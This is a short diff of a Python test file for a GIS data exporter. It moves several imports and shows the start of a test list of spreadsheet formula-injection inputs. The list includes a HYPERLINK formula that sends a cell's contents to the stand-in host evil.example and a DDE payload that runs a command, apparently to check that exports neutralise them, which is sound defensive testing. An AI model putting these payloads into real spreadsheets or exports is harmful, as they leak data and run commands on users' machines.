@@ -19,9 +19,7 @@ import pyogrio
 import pytest
 import shapely
 
-from gis import importers as imp
-from gis.crs import gcj02_to_wgs84
-from gis.exporters import (
+from export.formats import (
     GCJ02_NAME,
     TARGETS,
     ExportError,
@@ -41,6 +39,8 @@ from gis.exporters import (
     xlsx_bytes,
     xlsx_layer_bytes,
 )
+from gis.crs import gcj02_to_wgs84
+from ingest import importers as imp
 
 META = ExportMeta(title="测试导出", exported="2026-11-26")
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
